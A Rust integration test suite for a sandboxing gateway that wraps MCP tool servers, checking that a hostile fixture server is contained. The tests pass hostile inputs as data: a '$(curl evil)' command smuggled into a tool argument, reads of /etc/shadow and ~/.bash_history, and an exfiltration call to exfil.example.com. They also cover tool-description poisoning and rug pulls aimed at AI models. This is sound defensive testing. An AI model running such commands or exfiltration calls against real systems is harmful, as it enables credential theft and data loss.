//! `cordon mcp wrap` end to end: the real binary between a JSON-RPC client
//! (written here: MCP's stdio transport is one JSON object per line) and
//! real MCP servers in a sandbox: the reference filesystem and everything
//! servers from npm (.ci/mcp-servers.sh installs them under
//! target/test-data/mcp-servers), and a hostile server
//! (tests/fixtures/hostile_mcp.py). Every store is a test's own.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::*;

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{channel, Receiver};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

const TIMEOUT: Duration = Duration::from_secs(60);

/// Node reserves gigabytes of address space at start: where cordon falls
/// back to RLIMIT_AS for memory (an unprivileged caller without a
/// delegated cgroup), the default 512 MiB kills it before it starts.
const NODE_MEMORY: &str = "2GiB";

/// A JSON-RPC client of `cordon mcp wrap ARGS`.
struct Client {
    child: Child,
    stdin: Option<ChildStdin>,
    rx: Receiver<Value>,
    stderr: Receiver<String>,
    next: u64,
}

impl Client {
    fn start(cwd: &Path, args: &[String]) -> Client {
        Client::start_with(cwd, args, &[])
    }

    /// With variables in cordon's own environment (a `--secret`'s value).
    fn start_with(cwd: &Path, args: &[String], env: &[(&str, &str)]) -> Client {
        let mut child = Command::new(cordon_bin())
            .arg("mcp")
            .arg("wrap")
            .args(args)
            .current_dir(cwd)
            .envs(env.iter().copied())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start cordon mcp wrap");
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let v: Value = serde_json::from_str(&line)
                    .unwrap_or_else(|e| panic!("not JSON from the gateway: {line}: {e}"));
                if tx.send(v).is_err() {
                    break;
                }
            }
        });
        let stderr = child.stderr.take().unwrap();
        let (etx, erx) = channel();
        std::thread::spawn(move || {
            let mut all = String::new();
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                all.push_str(&line);
                all.push('\n');
            }
            let _ = etx.send(all);
        });
        let stdin = child.stdin.take();
        let mut c = Client {
            child,
            stdin,
            rx,
            stderr: erx,
            next: 1,
        };
        let init = c.request(
            "initialize",
            json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "cordon-test", "version": "1"}}),
        );
        assert!(init.get("result").is_some(), "initialize failed: {init}");
        c.send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        c
    }

    fn send(&mut self, msg: Value) {
        let stdin = self.stdin.as_mut().unwrap();
        writeln!(stdin, "{msg}").unwrap();
        stdin.flush().unwrap();
    }

    /// Send a request and wait for its answer (skipping notifications).
    fn request(&mut self, method: &str, params: Value) -> Value {
        let id = self.next;
        self.next += 1;
        self.send(json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        let deadline = Instant::now() + TIMEOUT;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let msg = match self.rx.recv_timeout(left) {
                Ok(m) => m,
                Err(e) => {
                    let _ = self.child.kill();
                    let stderr = self
                        .stderr
                        .recv_timeout(Duration::from_secs(5))
                        .unwrap_or_default();
                    panic!("no answer to {method} ({e:?}); cordon's stderr:\n{stderr}");
                }
            };
            if msg.get("id") == Some(&json!(id)) && msg.get("method").is_none() {
                return msg;
            }
        }
    }

    fn tools(&mut self) -> Vec<String> {
        let r = self.request("tools/list", json!({}));
        r["result"]["tools"]
            .as_array()
            .unwrap_or_else(|| panic!("no tools in {r}"))
            .iter()
            .map(|t| t["name"].as_str().unwrap().to_owned())
            .collect()
    }

    /// `tools/call`: the result (tool errors included).
    fn call(&mut self, tool: &str, args: Value) -> Value {
        let r = self.request("tools/call", json!({"name": tool, "arguments": args}));
        r.get("result")
            .cloned()
            .unwrap_or_else(|| panic!("no result for {tool}: {r}"))
    }

    /// Close the client's side; the gateway must end (and take the server
    /// with it). Its exit status and stderr.
    fn close(mut self) -> (std::process::ExitStatus, String, Duration) {
        let t = Instant::now();
        drop(self.stdin.take());
        let deadline = Instant::now() + Duration::from_secs(20);
        let status = loop {
            if let Some(s) = self.child.try_wait().unwrap() {
                break s;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                panic!("cordon mcp wrap still running 20 s after its client left");
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let took = t.elapsed();
        let stderr = self
            .stderr
            .recv_timeout(Duration::from_secs(5))
            .unwrap_or_default();
        (status, stderr, took)
    }
}

fn text_of(result: &Value) -> String {
    result["content"]
        .as_array()
        .map(|c| {
            c.iter()
                .filter_map(|p| p["text"].as_str())
                .collect::<Vec<_>>()
                .join("\n")
        })
        .unwrap_or_default()
}

fn is_error(result: &Value) -> bool {
    result["isError"] == json!(true)
}

/// A directory for one test outside /tmp (the sandbox replaces /tmp with
/// a tmpfs of its own, so only the sandbox's binds decide what it sees):
/// cargo's target tmp dir, or the home directory of a user who cannot
/// write there (the rootless pass).
fn scratch(name: &str) -> tempfile::TempDir {
    let prefix = format!("mcp-{name}-");
    let target = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    tempfile::Builder::new()
        .prefix(&prefix)
        .tempdir_in(&target)
        .or_else(|_| {
            let home = std::env::var_os("HOME")
                .map(PathBuf::from)
                .unwrap_or_default();
            tempfile::Builder::new().prefix(&prefix).tempdir_in(home)
        })
        .expect("a scratch directory outside /tmp")
}

fn ready() -> bool {
    skip_unless(
        userns_available(),
        "user namespaces are unavailable on this host",
    )
}

/// The npm servers' directory, if installed.
fn npm_servers() -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../target/test-data/mcp-servers/node_modules")
        .canonicalize()
        .ok()?;
    let node = Path::new("/usr/bin/node").exists();
    (node
        && dir
            .join("@modelcontextprotocol/server-filesystem/dist/index.js")
            .exists()
        && dir
            .join("@modelcontextprotocol/server-everything/dist/index.js")
            .exists())
    .then_some(dir)
}

fn npm_ready() -> Option<PathBuf> {
    let dir = npm_servers();
    if skip_unless(
        dir.is_some(),
        "the npm MCP servers are not installed (run .ci/mcp-servers.sh; needs node and npm)",
    ) {
        return None;
    }
    dir
}

fn s(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| (*x).to_owned()).collect()
}

/// Every audit record of kind `kind` in the store.
fn records(db: &Path, kind: &str) -> Vec<Value> {
    let out = Command::new(cordon_bin())
        .args(["audit", "--store"])
        .arg(db)
        .args(["export", "--format", "jsonl"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["kind"] == kind)
        .collect()
}

fn mcp_calls(db: &Path, tool: &str) -> Vec<Value> {
    records(db, "mcp_call")
        .into_iter()
        .filter(|r| r["body"]["tool"] == tool)
        .collect()
}

fn incidents(db: &Path, needle: &str) -> Vec<Value> {
    records(db, "incident")
        .into_iter()
        .filter(|r| r["body"]["summary"].as_str().unwrap_or("").contains(needle))
        .collect()
}

/// The reference filesystem server, told it may serve the whole scratch
/// directory (its own check passes for every path in it), while the
/// sandbox binds only `granted/`: the file beside it is out of reach. The
/// same call with the whole directory bound reads it (so the refusal is
/// the sandbox's mount layer, not the server). Denied tools are absent and
/// refused; every call is in the audit store.
#[test]
fn filesystem_server_allowed_denied_and_out_of_reach() {
    if ready() {
        return;
    }
    let Some(modules) = npm_ready() else { return };
    let dir = scratch("fs");
    let base = dir.path().canonicalize().unwrap();
    let granted = base.join("granted");
    std::fs::create_dir(&granted).unwrap();
    std::fs::write(granted.join("a.txt"), "hello from granted\n").unwrap();
    let secret = base.join("outside.txt");
    std::fs::write(&secret, "HOST-SECRET-4711\n").unwrap();
    let db = base.join("audit.db");
    let server = modules.join("@modelcontextprotocol/server-filesystem/dist/index.js");
    let args = |bind: &Path| {
        let mut a = s(&["--audit"]);
        a.push(db.display().to_string());
        a.extend(s(&["--pins"]));
        a.push(base.join("pins.json").display().to_string());
        a.extend(s(&["--memory", NODE_MEMORY, "--ro"]));
        a.push(modules.display().to_string());
        a.extend(s(&["--ro"]));
        a.push(bind.display().to_string());
        a.extend(s(&[
            "--allow-tool",
            "read_text_file",
            "--allow-tool",
            "list_directory",
            "--",
        ]));
        a.extend(s(&["node"]));
        a.push(server.display().to_string());
        a.push(base.display().to_string());
        a
    };

    let mut c = Client::start(&granted, &args(&granted));
    let mut tools = c.tools();
    tools.sort();
    assert_eq!(
        tools,
        ["list_directory", "read_text_file"],
        "only the allowed tools are listed"
    );

    let ok = c.call("read_text_file", json!({"path": granted.join("a.txt")}));
    assert!(!is_error(&ok), "{ok}");
    assert!(text_of(&ok).contains("hello from granted"), "{ok}");

    let out = c.call("read_text_file", json!({"path": secret}));
    assert!(is_error(&out), "the file outside the bind was read: {out}");
    assert!(!text_of(&out).contains("HOST-SECRET-4711"), "{out}");
    assert!(
        text_of(&out).contains("ENOENT"),
        "the server's own check passed; the sandbox had no such file: {out}"
    );

    let refused = c.call(
        "write_file",
        json!({"path": granted.join("b.txt"), "content": "x"}),
    );
    assert!(is_error(&refused), "{refused}");
    assert!(
        text_of(&refused).contains("rule:"),
        "the refusal names the rule: {refused}"
    );
    assert!(!granted.join("b.txt").exists());
    let (status, stderr, _) = c.close();
    assert!(status.success(), "{stderr}");

    // Control: with the whole directory bound the same server reads it.
    let mut c = Client::start(&granted, &args(&base));
    c.tools();
    let read = c.call("read_text_file", json!({"path": secret}));
    assert!(
        text_of(&read).contains("HOST-SECRET-4711"),
        "control: {read}"
    );
    c.close();

    let reads = mcp_calls(&db, "read_text_file");
    assert!(reads.len() >= 3, "{reads:?}");
    for r in &reads {
        assert_eq!(r["body"]["decision"], "allow");
        assert_eq!(r["body"]["args_digest"].as_str().unwrap().len(), 64);
        assert!(
            r["body"].get("args").is_none(),
            "raw arguments stored without the policy asking: {r}"
        );
        assert!(r["body"]["result_bytes"].as_u64().unwrap() > 0);
        assert!(r["body"]["server"]
            .as_str()
            .unwrap()
            .contains("server-filesystem"));
    }
    let writes = mcp_calls(&db, "write_file");
    assert_eq!(writes.len(), 1, "{writes:?}");
    assert_eq!(writes[0]["body"]["decision"], "deny");
    assert!(writes[0]["body"]["rule"]
        .as_str()
        .unwrap()
        .contains("allow-tool"));
}

/// The reference everything server: an allowed tool answers, a denied one
/// (get-env: the server's environment) is invisible and refused, and an
/// argument rule of the policy file refuses a call naming the rule.
#[test]
fn everything_server_policy_file_and_argument_rules() {
    if ready() {
        return;
    }
    let Some(modules) = npm_ready() else { return };
    let dir = scratch("everything");
    let base = dir.path().canonicalize().unwrap();
    let policy = base.join("policy.toml");
    std::fs::write(
        &policy,
        r#"
default = "deny"
record_args = false

[tools.echo]
decision = "allow"
record_args = true
[[tools.echo.args]]
name = "message"
regex = "^[a-z ]*$"
max_size = 64

[tools.get-sum]
decision = "allow"

[tools.get-env]
decision = "deny"

[tools.get-tiny-image]
decision = "ask"
"#,
    )
    .unwrap();
    let db = base.join("audit.db");
    let server = modules.join("@modelcontextprotocol/server-everything/dist/index.js");
    let mut args = s(&["--audit"]);
    args.push(db.display().to_string());
    args.extend(s(&["--pins"]));
    args.push(base.join("pins.json").display().to_string());
    args.extend(s(&["--policy"]));
    args.push(policy.display().to_string());
    args.extend(s(&["--memory", NODE_MEMORY, "--ro"]));
    args.push(modules.display().to_string());
    args.extend(s(&["--", "node"]));
    args.push(server.display().to_string());
    args.push("stdio".into());

    let mut c = Client::start(&base, &args);
    let mut tools = c.tools();
    tools.sort();
    assert_eq!(tools, ["echo", "get-sum", "get-tiny-image"]);
    let echo = c.call("echo", json!({"message": "hello there"}));
    assert!(text_of(&echo).contains("hello there"), "{echo}");
    let sum = c.call("get-sum", json!({"a": 2, "b": 40}));
    assert!(text_of(&sum).contains("42"), "{sum}");

    let env = c.call("get-env", json!({}));
    assert!(
        is_error(&env) && text_of(&env).contains("tools.get-env.decision"),
        "{env}"
    );
    let bad = c.call("echo", json!({"message": "$(curl evil)"}));
    assert!(is_error(&bad), "{bad}");
    assert!(
        text_of(&bad).contains("tools.echo.args.message.regex"),
        "{bad}"
    );
    let big = c.call("echo", json!({"message": "a".repeat(100)}));
    assert!(
        text_of(&big).contains("tools.echo.args.message.max_size")
            || text_of(&big).contains("max_size"),
        "{big}"
    );
    // An ask goes to the client as an elicitation; this client declared
    // none, so the call is refused naming the rule and what would allow it.
    let ask = c.call("get-tiny-image", json!({}));
    assert!(
        is_error(&ask)
            && text_of(&ask).contains("cannot be asked")
            && text_of(&ask).contains("tools.get-tiny-image.decision"),
        "{ask}"
    );
    c.close();

    let echoes = mcp_calls(&db, "echo");
    let allowed: Vec<_> = echoes
        .iter()
        .filter(|r| r["body"]["decision"] == "allow")
        .collect();
    assert_eq!(allowed.len(), 1, "{echoes:?}");
    assert_eq!(
        allowed[0]["body"]["args"]["message"], "hello there",
        "record_args = true keeps them"
    );
    assert_eq!(mcp_calls(&db, "get-sum")[0]["body"].get("args"), None);
}

/// The hostile server, in a sandbox with the fixture read-only, egress
/// through the proxy to one allowed host only, and a canary in its
/// environment.
struct Hostile {
    dir: tempfile::TempDir,
    base: PathBuf,
    db: PathBuf,
    pins: PathBuf,
}

const CANARY: &str = "CANARY-c0rd0n-93f1a7b2e4";

impl Hostile {
    fn new(name: &str) -> Hostile {
        let dir = scratch(name);
        let base = dir.path().canonicalize().unwrap();
        Hostile {
            db: base.join("audit.db"),
            pins: base.join("pins.json"),
            base,
            dir,
        }
    }

    fn start(&self, env: &[(&str, &str)], extra: &[&str]) -> Client {
        self.start_with_host_env(env, extra, &[])
    }

    fn start_with_host_env(
        &self,
        env: &[(&str, &str)],
        extra: &[&str],
        host_env: &[(&str, &str)],
    ) -> Client {
        let fixtures = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
        let policy = self.base.join("policy.toml");
        std::fs::write(&policy, format!("canaries = [\"{CANARY}\"]\n")).unwrap();
        let mut args = s(&["--audit"]);
        args.push(self.db.display().to_string());
        args.extend(s(&["--pins"]));
        args.push(self.pins.display().to_string());
        args.extend(s(&["--policy"]));
        args.push(policy.display().to_string());
        args.extend(s(&["--ro"]));
        args.push(fixtures.display().to_string());
        args.extend(s(&["--allow-net", "allowed.invalid"]));
        for (k, v) in env {
            args.extend(s(&["--setenv"]));
            args.push(format!("{k}={v}"));
        }
        args.extend(s(extra));
        args.extend(s(&["--", "/usr/bin/python3"]));
        args.push(fixtures.join("hostile_mcp.py").display().to_string());
        // The sandbox's cwd (bound read-only by default) is a directory
        // of its own; the test's files sit beside it, on the host only.
        let cwd = self.base.join("cwd");
        std::fs::create_dir_all(&cwd).unwrap();
        Client::start_with(&cwd, &args, host_env)
    }
}

/// Reading a host file and sending data to a host that is not allowed
/// both fail (the mount namespace; the network namespace and the egress
/// proxy), and the attempt is recorded as denied egress.
#[test]
fn hostile_server_cannot_read_host_files_or_exfiltrate() {
    if ready() {
        return;
    }
    let h = Hostile::new("hostile-io");
    let planted = h.base.join("host-only.txt");
    std::fs::write(&planted, "PLANTED-ON-HOST-5521\n").unwrap();
    let mut c = h.start(&[], &[]);
    let tools = c.tools();
    assert!(tools.contains(&"read_host_file".to_owned()), "{tools:?}");
    let home_file = std::env::var("HOME")
        .map(|h| format!("{h}/.bash_history"))
        .unwrap_or_default();
    for path in [
        planted.display().to_string(),
        "/etc/shadow".into(),
        home_file,
    ] {
        let r = c.call("read_host_file", json!({"path": path}));
        let t = text_of(&r);
        assert!(!t.contains("PLANTED-ON-HOST-5521"), "{path}: {t}");
        assert!(is_error(&r) || t.is_empty(), "{path} was read: {t}");
    }
    let r = c.call(
        "exfiltrate",
        json!({"url": "http://exfil.example.com/collect", "data": "stolen"}),
    );
    let t = text_of(&r);
    assert!(!t.contains("proxy: 200"), "{t}");
    assert!(
        t.contains("direct: failed") && t.contains("direct-ip: failed"),
        "{t}"
    );
    let (status, stderr, _) = c.close();
    assert!(status.success(), "{stderr}");
    let denied: Vec<_> = records(&h.db, "egress")
        .into_iter()
        .filter(|r| r["body"]["decision"] == "deny" && r["body"]["host"] == "exfil.example.com")
        .collect();
    assert!(!denied.is_empty(), "the proxy's refusal is recorded");
    drop(h.dir);
}

/// A server that ignores the end of its stdin and SIGTERM, after leaving a
/// detached daemon: when the client leaves, the gateway ends the sandbox
/// and nothing of it is left running (the PID namespace's init dies).
#[test]
fn hostile_server_leaves_nothing_running_when_the_client_goes() {
    if ready() {
        return;
    }
    let h = Hostile::new("hostile-daemon");
    let mark = format!("cordon-mcp-daemon-{}", std::process::id());
    let mut c = h.start(&[("HOSTILE_LINGER", "1")], &[]);
    c.tools();
    let r = c.call("spawn_daemon", json!({"mark": mark}));
    assert!(text_of(&r).contains("daemon started"), "{r}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !processes_with(&mark).is_empty(),
        "the daemon runs while the client is there"
    );
    let (status, stderr, took) = c.close();
    assert!(status.success(), "{stderr}");
    assert!(
        took >= Duration::from_secs(1),
        "the server got its grace period: {took:?}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while !processes_with(&mark).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        processes_with(&mark).is_empty(),
        "a daemon of the wrapped server survived its client"
    );
    drop(h.dir);
}

/// A tool whose description changes between two lists (the rug pull) is
/// blocked, shown as a diff, recorded; `cordon mcp pins approve` lets the
/// new definition through on the next run. A description with
/// instructions for the model is hidden and its calls refused. A canary
/// and a credential in a result are redacted and recorded.
#[test]
fn hostile_server_rug_pull_poisoning_and_canary() {
    if ready() {
        return;
    }
    let h = Hostile::new("hostile-pins");
    let mut c = h.start(&[("HOSTILE_RUG", "1"), ("HOSTILE_CANARY", CANARY)], &[]);
    let first = c.tools();
    assert!(first.contains(&"echo".to_owned()), "{first:?}");
    assert!(
        !first.contains(&"add".to_owned()),
        "the poisoned tool is listed: {first:?}"
    );
    let added = c.call("add", json!({"a": 1, "b": 2}));
    assert!(
        is_error(&added) && text_of(&added).contains("poisoning"),
        "{added}"
    );

    let ok = c.call("echo", json!({"text": "before"}));
    assert_eq!(text_of(&ok), "before");
    let second = c.tools();
    assert!(
        !second.contains(&"echo".to_owned()),
        "the changed tool is still listed: {second:?}"
    );
    let blocked = c.call("echo", json!({"text": "after"}));
    assert!(
        is_error(&blocked) && text_of(&blocked).contains("rule: pin"),
        "{blocked}"
    );

    let leak = c.call("leak", json!({}));
    let t = text_of(&leak);
    assert!(!t.contains(CANARY), "the canary reached the client: {t}");
    assert!(
        !t.contains("AKIAIOSFODNN7EXAMPLE"),
        "the key reached the client: {t}"
    );
    assert!(t.contains("[REDACTED:canary]"), "{t}");
    let (status, stderr, _) = c.close();
    assert!(status.success(), "{stderr}");
    assert!(
        stderr.contains("+") && stderr.contains("remembers it"),
        "the change is shown as a diff: {stderr}"
    );

    assert!(!incidents(&h.db, "changed since pinned (rug pull): echo").is_empty());
    assert!(!incidents(&h.db, "instructions aimed at the model: add").is_empty());
    assert!(!incidents(&h.db, "secret or canary").is_empty());
    let leaks = mcp_calls(&h.db, "leak");
    assert_eq!(leaks[0]["body"]["redacted"], 2, "{leaks:?}");
    let pins_arg = h.pins.display().to_string();

    // The diff names the change; approving it pins the new definition.
    let diff = Command::new(cordon_bin())
        .args(["mcp", "pins", "diff", "--pins", &pins_arg])
        .output()
        .unwrap();
    let diff_text = String::from_utf8_lossy(&diff.stdout);
    assert_eq!(diff.status.code(), Some(1), "{diff_text}");
    assert!(
        diff_text.contains("tool echo: changed") && diff_text.contains("remembers it"),
        "{diff_text}"
    );

    // Before the approval a new run still blocks the changed definition.
    let mut c = h.start(&[("HOSTILE_VERSION", "2")], &[]);
    assert!(!c.tools().contains(&"echo".to_owned()));
    c.close();
    let approve = Command::new(cordon_bin())
        .args([
            "mcp", "pins", "approve", "--tool", "echo", "--pins", &pins_arg,
        ])
        .output()
        .unwrap();
    assert!(
        approve.status.success(),
        "{}",
        String::from_utf8_lossy(&approve.stderr)
    );
    let mut c = h.start(&[("HOSTILE_VERSION", "2")], &[]);
    assert!(
        c.tools().contains(&"echo".to_owned()),
        "approved, the new definition passes"
    );
    c.close();
    drop(h.dir);
}

/// A server given a secret (`--secret NAME@host`) holds a placeholder: the
/// real value, in cordon's environment only, never reaches the server, so
/// no result can carry it.
#[test]
fn hostile_server_sees_a_placeholder_for_its_secret() {
    if ready() {
        return;
    }
    let h = Hostile::new("hostile-secret");
    let real = "sk-live-REAL-VALUE-0b7e4f2a9c";
    let mut c = h.start_with_host_env(
        &[],
        &["--secret", "HOSTILE_CANARY@allowed.invalid"],
        &[("HOSTILE_CANARY", real)],
    );
    c.tools();
    let leak = c.call("leak", json!({}));
    let t = text_of(&leak);
    assert!(!t.contains(real), "the real secret reached the server: {t}");
    assert!(t.contains("status ok; build "), "{t}");
    assert!(
        !t.trim_start_matches("status ok; build ").starts_with(';'),
        "no placeholder given: {t}"
    );
    c.close();
    drop(h.dir);
}

/// The gateway's threads and the egress proxy's may use every CPU the
/// caller may, while the supervisor's own thread stays on the sandbox's
/// (crate setup_cpu of cordon-jail).
#[test]
fn the_gateways_threads_may_use_every_cpu() {
    if ready() {
        return;
    }
    let cpus = |status: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix("Cpus_allowed_list:"))
            .map(|v| v.trim().to_owned())
    };
    let own = std::fs::read_to_string("/proc/self/status").unwrap();
    let every = cpus(&own).unwrap();
    let n = std::thread::available_parallelism().map_or(1, |n| n.get());
    if skip_unless(
        n >= 2,
        &format!("this host lets the tests use {n} CPU; the hold needs two"),
    ) {
        return;
    }
    let h = Hostile::new("hostile-cpus");
    let mut c = h.start(&[], &[]);
    c.tools();
    let pid = c.child.id();
    let mut threads = Vec::new();
    for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap() {
        let task = task.unwrap();
        let tid: u32 = task.file_name().to_string_lossy().parse().unwrap();
        let status = std::fs::read_to_string(task.path().join("status")).unwrap();
        let name = status.lines().next().unwrap_or_default().to_owned();
        threads.push((tid, name, cpus(&status).unwrap()));
    }
    for (tid, name, list) in &threads {
        if *tid == pid {
            assert_ne!(
                list, &every,
                "the supervisor's thread is not held: {threads:?}"
            );
        } else {
            assert_eq!(list, &every, "thread {tid} ({name}) is held: {threads:?}");
        }
    }
    assert!(
        threads.len() > 2,
        "the gateway and the proxy run threads: {threads:?}"
    );
    let (status, stderr, _) = c.close();
    assert!(status.success(), "{stderr}");
    drop(h.dir);
}
